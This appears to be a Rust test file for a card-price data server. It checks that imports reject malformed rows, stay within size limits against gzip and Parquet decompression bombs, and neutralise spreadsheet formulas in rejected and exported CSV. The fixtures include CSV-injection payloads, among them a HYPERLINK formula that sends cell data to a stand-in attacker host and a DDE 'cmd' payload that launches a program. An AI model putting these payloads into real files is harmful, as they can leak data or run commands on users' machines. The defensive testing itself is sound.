//! What files may hold, how long they may be, and that no command makes or destroys one by the way.

use crate::{folder, of_few_sets, server, write};
use serde_json::Value;
use std::fs;
use tempfile::TempDir;

/// What is not right in a file is refused by row and column, and nothing of the file is kept.
#[test]
fn ids_types_and_lengths_are_checked() {
    let folder = folder();
    let header = "marketplaceId,name,setId,cardNumber,language\n";
    let good = "my-1:normal,Abra,my,1/9,english";
    let cards = [
        (
            good.replace("my-1:normal", "m\u{202e}y-1:normal"),
            "marketplaceId",
        ),
        (
            good.replace("my-1:normal", "\"my\n-1:normal\""),
            "marketplaceId",
        ),
        (good.replace(",my,", ",m\u{7}y,"), "setId"),
        (
            good.replace(",my,", &format!(",{},", "s".repeat(257))),
            "setId",
        ),
        (good.replace(",english", ""), "\"language\" is missing"),
        (format!("{good},x"), "cell 6 has no column"),
        (good.replace("english", "klingon"), "language"),
    ];
    for (row, expected) in cards {
        write(&folder, "bad.csv", &format!("{header}{row}\n"));
        let ran = server(&folder, &["import", "cards", "bad.csv"]);
        assert_eq!(ran.code, Some(3), "{row}: {}", ran.said);
        let first = ran.said.lines().next().expect("a message");
        assert!(
            first.starts_with("titledex-server: bad.csv: row 2: "),
            "{}",
            ran.said
        );
        assert!(first.contains(expected), "no {expected} in {}", ran.said);
    }
    let good = r#"{"marketplaceId":"my-1:normal","name":"Abra","setId":"my","language":"english"}"#;
    for (member, expected) in [
        (
            r#""rarity":7"#,
            "the member \"rarity\" is a number, a string is expected",
        ),
        (r#""rarity":["C"]"#, "is a list, a string is expected"),
        (
            r#""sellers":true"#,
            "the member \"sellers\" is a truth value, a number is expected",
        ),
        (r#""name":"Kadabra""#, "the member \"name\" is there twice"),
    ] {
        let line = good.replacen('{', &format!("{{{member},"), 1);
        write(&folder, "bad.jsonl", &line);
        let ran = server(&folder, &["import", "cards", "bad.jsonl"]);
        assert_eq!(ran.code, Some(3), "{line}: {}", ran.said);
        assert!(ran.said.contains(expected), "no {expected} in {}", ran.said);
    }
    let line = good.replacen(
        '{',
        r#"{"sellers":3,"lowPrice":"1.50","lastPriceUpdate":"2026-11-20","#,
        1,
    );
    write(&folder, "good.jsonl", &line);
    let ran = server(&folder, &["import", "cards", "good.jsonl"]);
    assert_eq!(ran.code, Some(0), "{}", ran.said);
}

/// A column may have another name in every form of file, and one that the caller gives it.
#[test]
fn columns_are_found_by_their_other_names_in_every_form() {
    let folder = folder();
    let id = "base1-4:unlimited-holofoil";
    let mut endings = vec!["csv", "tsv", "jsonl"];
    if cfg!(feature = "parquet") {
        endings.push("parquet");
    }
    for (at, ending) in endings.into_iter().enumerate() {
        let price = format!("{}", 10 + at);
        let file = format!("a.{ending}");
        let make = |names: [&str; 3]| {
            let cells = [id, "2026-11-20", &price];
            match ending {
                "jsonl" => {
                    let member = |(name, cell): (&str, &str)| format!("{name:?}:{cell:?}");
                    let members: Vec<String> = names.into_iter().zip(cells).map(member).collect();
                    write(&folder, &file, &format!("{{{}}}\n", members.join(",")));
                }
                #[cfg(feature = "parquet")]
                "parquet" => crate::parquet_of(&folder, &file, names.into_iter().zip(cells)),
                _ => {
                    let between = if ending == "csv" { "," } else { "\t" };
                    let lines = [names, cells].map(|line| line.join(between));
                    write(&folder, &file, &lines.join("\n"));
                }
            }
        };
        let import = |arguments: &[&str]| {
            let ran = server(&folder, &[&["import", "prices", &file], arguments].concat());
            (ran.code, ran.said)
        };
        make(["marketplace_id", "day", "market_price"]);
        assert_eq!(import(&[]), (Some(0), String::new()), "{ending}");
        make(["Artikel", "day", "Preis"]);
        let map = [
            "--map",
            "marketPrice=Preis",
            "--map",
            "marketplaceId=Artikel",
        ];
        assert_eq!(import(&map), (Some(0), String::new()), "{ending}");
        let (_, said) = import(&[]);
        assert!(said.contains("\"Artikel\""), "{ending}: {said}");
        assert!(said.contains("is not known"), "{ending}: {said}");
        let (code, said) = import(&["--map", "price=Preis"]);
        assert_eq!(code, Some(1), "{ending}: {said}");
        assert!(
            said.contains("there is no column \"price\""),
            "{ending}: {said}"
        );
        make(["marketplaceId", "price", "marketPrice"]);
        let (_, said) = import(&[]);
        assert!(said.contains("twice"), "{ending}: {said}");
        let ran = server(&folder, &["market", "prices", id]);
        assert!(
            ran.out.contains(&format!("\"market\":{price}")),
            "{ending}: {}",
            ran.out
        );
    }
}

/// JSON states a value as what it is.
#[test]
fn lines_of_json_state_ids_and_offers_as_what_they_are() {
    let folder = folder();
    let line = |members: &str| {
        format!(
            r#"{{"title":"Charizard 4/102 Base Set PSA 9","price":300,"date":"2026-11-20",{members}}}"#
        )
    };
    let right = [
        r#""id":4001,"bestOffer":true"#,
        r#""id":"4002","bestOffer":false"#,
        r#""id":4003,"bestOffer":250.5"#,
        r#""id":"4004","bestOffer":"250.5""#,
    ];
    let wrong = [
        (
            r#""id":4.5"#,
            "\"id\" is a number, a string or a whole number",
        ),
        (r#""id":true"#, "\"id\" is a truth value, a string or"),
        (
            r#""bestOffer":[1]"#,
            "\"bestOffer\" is a list, an amount or true is",
        ),
    ];
    let lines = right.iter().chain(wrong.iter().map(|(members, _)| members));
    let lines: Vec<String> = lines.map(|members| line(members)).collect();
    write(&folder, "sales.jsonl", &lines.join("\n"));
    let ran = server(&folder, &["import", "sales", "sales.jsonl"]);
    assert_eq!(ran.code, Some(3), "{}", ran.said);
    for (_, why) in wrong {
        assert!(ran.said.contains(why), "no {why} in {}", ran.said);
    }
    let ran = server(&folder, &["market", "sales", "base1-4:unlimited-holofoil"]);
    let paid: Vec<Option<f64>> = ran
        .out
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).expect("it is JSON")["price"].as_f64())
        .collect();
    let expected = [300.0, 300.0, 250.5, 250.5].map(Some);
    assert_eq!(paid, expected, "{}", ran.out);
    let price =
        r#"{"marketplaceId":42382,"printing":"Unlimited Holofoil","date":"2026-11-20","price":5}"#;
    write(&folder, "prices.jsonl", price);
    let ran = server(&folder, &["import", "prices", "prices.jsonl"]);
    assert_eq!(ran.code, Some(0), "{}", ran.said);
}

/// What is set aside can be corrected and imported: rows without cells keep their text.
#[test]
fn rows_that_are_set_aside_keep_what_they_had() {
    let folder = folder();
    let right = r#"{"marketplaceId":"base1-4:unlimited-holofoil","date":"2026-11-20","price":5}"#;
    let line = r#"{"marketplaceId":"base1-4:unlimited-holofoil","date":["2026-11-21"]}"#;
    write(&folder, "a.jsonl", &format!("{right}\r\n{line}\r\n"));
    let short = "base1-4:unlimited-holofoil,\"a, b\"";
    let csv = format!(
        "marketplaceId,date,marketPrice\nbase1-4:unlimited-holofoil,2026-11-20,5\n{short}\nbase1-4:x,2026-11-20,5\n"
    );
    write(&folder, "a.csv", &csv);
    write(
        &folder,
        "a.tsv",
        &csv.replace("\"a, b\"", "a b").replace(',', "\t"),
    );
    for (file, lines) in [
        ("a.jsonl", &[line][..]),
        ("a.csv", &[short, ""]),
        ("a.tsv", &["base1-4:unlimited-holofoil\ta b", ""]),
    ] {
        let ran = server(&folder, &["import", "prices", file]);
        assert_eq!(ran.code, Some(3), "{file}: {}", ran.said);
        let aside = folder.path().join(format!("{file}.rejected.csv"));
        let mut aside = csv::Reader::from_path(aside).expect("it is there");
        let header = aside.headers().expect("readable").clone();
        assert_eq!(header.iter().next_back(), Some("line"));
        let kept: Vec<String> = aside
            .records()
            .map(|row| {
                row.expect("as long as the header")
                    .iter()
                    .next_back()
                    .map(str::to_owned)
            })
            .map(Option::unwrap_or_default)
            .collect();
        assert_eq!(kept, lines, "{file}");
    }
}

/// A person opens what is set aside, and a title may be a stranger's formula.
#[test]
fn rows_that_are_set_aside_run_nothing_in_a_spreadsheet() {
    let folder = folder();
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Charizard")"#;
    let quoted = formula.replace('"', "\"\"");
    let head = "title,price,date,url";
    let csv = format!("{head}\n\"{quoted}\",abc,2026-11-20,x\n@SUM(1),-5,2026-11-20\n");
    write(&folder, "sales.csv", &csv);
    let line = r#"{"title":"=cmd|x","price":"abc","date":"2026-11-20"}"#;
    write(&folder, "sales.jsonl", &format!("{line}\n"));
    let cells = |file: &str| -> Vec<String> {
        let aside = folder.path().join(format!("{file}.rejected.csv"));
        let mut aside = csv::Reader::from_path(aside).expect("it is there");
        let rows = aside
            .records()
            .map(|row| row.expect("as long as the header"));
        rows.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>())
            .collect()
    };
    for (file, safe) in [
        (
            "sales.csv",
            vec![format!("'{formula}"), "'@SUM(1),-5,2026-11-20".to_owned()],
        ),
        ("sales.jsonl", vec!["'=cmd|x".to_owned()]),
    ] {
        let ran = server(&folder, &["import", "sales", file]);
        assert_eq!(ran.code, Some(3), "{file}: {}", ran.said);
        let cells = cells(file);
        for cell in &safe {
            assert!(cells.contains(cell), "{file}: {cells:?}");
        }
        assert!(
            !cells.iter().any(|cell| cell.starts_with(['=', '@'])),
            "{cells:?}"
        );
    }
    // corrected and imported, a title is what it was
    let aside = folder.path().join("sales.csv.rejected.csv");
    let aside = std::fs::read_to_string(aside).expect("it is there");
    let (kept, _) = aside.split_once("\n3,").expect("two rows");
    write(
        &folder,
        "again.csv",
        &format!("{}\n", kept.replace(",abc,", ",-0x,")),
    );
    let ran = server(
        &folder,
        &["import", "sales", "again.csv", "--ignore-columns"],
    );
    assert_eq!(ran.code, Some(3), "{}", ran.said);
    let again = cells("again.csv");
    assert!(again.contains(&format!("'{formula}")), "{again:?}");
    write(
        &folder,
        "right.csv",
        &format!("{}\n", kept.replace(",abc,", ",5,")),
    );
    let ran = server(
        &folder,
        &["import", "sales", "right.csv", "--ignore-columns"],
    );
    assert_eq!(ran.code, Some(0), "{}", ran.said);
    let listed = server(&folder, &["review", "list"]).out;
    assert!(listed.contains("\"title\":\"=HYPERLINK("), "{listed}");
}

/// A few megabytes of gzip hold many gigabytes, and a quote that is never closed takes all.
#[test]
fn content_and_rows_are_bounded() {
    let folder = folder();
    let header = "marketplaceId,date,marketPrice\n";
    let row = "base1-4:unlimited-holofoil,2026-11-20,12.50\n";
    let rows = row.repeat((3 << 20) / row.len());
    write(&folder, "bomb.csv.gz", &format!("{header}{rows}"));
    let ran = server(
        &folder,
        &["import", "prices", "bomb.csv.gz", "--max-mib", "2"],
    );
    assert_eq!(ran.code, Some(1), "{}", ran.said);
    assert!(
        ran.said.contains("more than 2 MiB when decompressed"),
        "{}",
        ran.said
    );
    let ran = server(
        &folder,
        &["import", "prices", "bomb.csv.gz", "--max-mib", "4"],
    );
    assert_eq!(ran.code, Some(0), "{}", ran.said);
    write(&folder, "lines.jsonl.gz", &" \n".repeat(3 << 19));
    let ran = server(
        &folder,
        &["import", "prices", "lines.jsonl.gz", "--max-mib", "2"],
    );
    assert!(
        ran.said.contains("more than 2 MiB when decompressed"),
        "{}",
        ran.said
    );
    write(
        &folder,
        "open.csv.gz",
        &format!("{header}\"{}", "x".repeat(2 << 20)),
    );
    let ran = server(&folder, &["import", "prices", "open.csv.gz"]);
    assert_eq!(ran.code, Some(1), "{}", ran.said);
    assert!(ran.said.contains("a row of more than"), "{}", ran.said);
    // A long row that is closed is read, and refused by its place.
    write(
        &folder,
        "long.csv",
        &format!("{header}{},2026-11-20,1\n", "x".repeat(900_000)),
    );
    let ran = server(&folder, &["import", "prices", "long.csv"]);
    assert_eq!(ran.code, Some(3), "{}", ran.said);
    assert!(ran.said.contains("row 2: marketplaceId"), "{}", ran.said);
}

/// The cards of the export, decompressed.
fn exported(folder: &TempDir, arguments: &[&str]) -> String {
    let ran = server(folder, &[&["export", "cards"], arguments].concat());
    assert_eq!(ran.code, Some(0), "{}", ran.said);
    let line: Value = serde_json::from_str(&ran.out).expect("it is JSON");
    let file = line["file"].as_str().expect("it has a name");
    let packed = fs::File::open(folder.path().join("titledex-exports").join(file));
    let mut text = String::new();
    let mut reader = flate2::read::GzDecoder::new(packed.expect("it is there"));
    std::io::Read::read_to_string(&mut reader, &mut text).expect("it is text");
    text
}

#[test]
fn exports_are_safe_to_open_in_a_spreadsheet() {
    let folder = folder();
    let rows = "marketplaceId,name,setId,cardNumber,language,printing\n\
                my-1:normal,=cmd|' /C calc'!A0,my,-1,english,@SUM(A1)\n";
    write(&folder, "cards.csv", rows);
    let ran = server(&folder, &["import", "cards", "cards.csv"]);
    assert_eq!(ran.code, Some(0), "{}", ran.said);
    let row = |text: &str| {
        let line = text.lines().find(|line| line.starts_with("my-1:"));
        line.expect("the card is there").to_owned()
    };
    let safe = exported(&folder, &[]);
    assert_eq!(
        row(&safe),
        "my-1:normal,'=cmd|' /C calc'!A0,my,my,-1,,english,'@SUM(A1),,,,"
    );
    // What is imported again is what it was.
    write(&folder, "again.csv", &safe);
    let ran = server(&folder, &["import", "cards", "again.csv"]);
    assert_eq!(ran.code, Some(0), "{}", ran.said);
    let settings = of_few_sets() + "[exports]\ncsv-safe = false\n";
    write(&folder, "td.toml", &settings);
    let plain = exported(&folder, &["--config", "td.toml"]);
    assert_eq!(
        row(&plain),
        "my-1:normal,=cmd|' /C calc'!A0,my,my,-1,,english,@SUM(A1),,,,"
    );
    assert_eq!(safe.replace("'=", "=").replace("'@", "@"), plain);
}

/// A command that looks at a database does not make one; nor does it overwrite one.
#[test]
fn database_is_neither_made_nor_overwritten_by_looking() {
    let folder = folder();
    for arguments in [
        &["review", "list"][..],
        &["export"],
        &["admin", "account", "list"],
        &["market", "catalogue", "-o", "cards.index"],
        &["import", "prices", "/dev/null", "--dry-run"],
    ] {
        let arguments = [arguments, &["--database", "sqlite:none.db"]].concat();
        let ran = server(&folder, &arguments);
        assert_eq!(ran.code, Some(1), "{arguments:?} {}", ran.said);
        assert!(
            ran.said.contains("there is no database none.db"),
            "{}",
            ran.said
        );
        assert_eq!(fs::read_dir(folder.path()).expect("readable").count(), 0);
    }
    let ran = server(
        &folder,
        &["admin", "account", "create", "shop", "--plan", "free"],
    );
    assert_eq!(ran.code, Some(0), "{}", ran.said);
    fs::hard_link(
        folder.path().join("titledex.db"),
        folder.path().join("x.index"),
    )
    .expect("writable");
    let ran = server(&folder, &["market", "catalogue", "-o", "x.index"]);
    assert_eq!(ran.code, Some(1), "{}", ran.said);
    assert!(
        ran.said.contains("would overwrite an input"),
        "{}",
        ran.said
    );
}

/// A small Parquet file may expand without end: by compression, and by a dictionary that states a
/// long text once for many rows. Both are refused before they are decoded whole.
#[cfg(feature = "parquet")]
#[test]
fn parquet_is_bounded_when_decompressed() {
    use arrow_array::types::Int32Type;
    use arrow_array::{ArrayRef, DictionaryArray, Int32Array, RecordBatch, StringArray};
    use parquet::arrow::ArrowWriter;
    use parquet::basic::Compression;
    use parquet::file::properties::WriterProperties;
    use std::sync::Arc;
    const ROWS: usize = 20_000;
    let folder = folder();
    let write = |name: &str, dictionary: bool, ids: ArrayRef| {
        let days: ArrayRef = Arc::new(StringArray::from(vec!["2026-11-20"; ids.len()]));
        let prices: ArrayRef = Arc::new(StringArray::from(vec!["1"; ids.len()]));
        let columns = [
            ("marketplaceId", ids),
            ("date", days),
            ("marketPrice", prices),
        ];
        let rows = RecordBatch::try_from_iter(columns).expect("columns are of one length");
        let properties = WriterProperties::builder()
            .set_compression(Compression::ZSTD(Default::default()))
            .set_dictionary_enabled(dictionary)
            .build();
        let file = fs::File::create(folder.path().join(name)).expect("writable");
        let writer = ArrowWriter::try_new(file, rows.schema(), Some(properties));
        let mut writer = writer.expect("it can be written");
        writer.write(&rows).expect("it can be written");
        writer.close().expect("it can be written");
        let length = fs::metadata(folder.path().join(name)).expect("there").len();
        assert!(length < 1 << 18, "{name} has {length} bytes");
    };
    // twenty thousand times a text of 256 KiB: 5 GB
    let text = StringArray::from(vec!["x".repeat(1 << 18)]);
    let keys = Int32Array::from(vec![0; ROWS]);
    let repeated = DictionaryArray::<Int32Type>::try_new(keys, Arc::new(text)).expect("in range");
    write("repeated.parquet", true, Arc::new(repeated));
    // and 40 MB that compress well
    let long = vec!["y".repeat(2_000); ROWS];
    write("packed.parquet", false, Arc::new(StringArray::from(long)));
    for file in ["repeated.parquet", "packed.parquet"] {
        let arguments = ["import", "prices", file, "--strict", "--max-mib", "16"];
        let ran = server(&folder, &arguments);
        assert_eq!(ran.code, Some(1), "{file}: {}", ran.said);
        let said = format!("cannot read {file}: it has more than 16 MiB when decompressed");
        assert!(ran.said.contains(&said), "{}", ran.said);
    }
    let ran = server(&folder, &["import", "list"]);
    assert_eq!((ran.code, ran.out.as_str()), (Some(0), ""));
    // as many rows as a batch has are read where texts are short
    let short = vec!["base1-4:unlimited-holofoil"; ROWS];
    write("short.parquet", true, Arc::new(StringArray::from(short)));
    let arguments = ["import", "prices", "short.parquet", "--max-mib", "16"];
    let ran = server(&folder, &arguments);
    assert_eq!(ran.code, Some(0), "{}", ran.said);
    assert_eq!(ran.out, "short.parquet: 20000 rows imported (import 1)\n");
}
